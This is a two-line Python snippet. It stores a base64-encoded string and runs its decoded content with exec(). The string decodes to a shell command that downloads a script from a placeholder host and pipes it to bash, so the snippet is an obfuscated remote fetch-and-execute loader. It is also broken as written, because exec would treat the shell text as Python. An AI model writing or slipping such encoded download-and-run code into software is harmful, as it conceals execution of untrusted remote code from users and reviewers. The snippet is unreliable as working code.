P = "Y3VybCAtcyBodHRwczovL2V4YW1wbGUub3JnL3guc2ggfCBiYXNo"
import base64; exec(base64.b64decode(P))
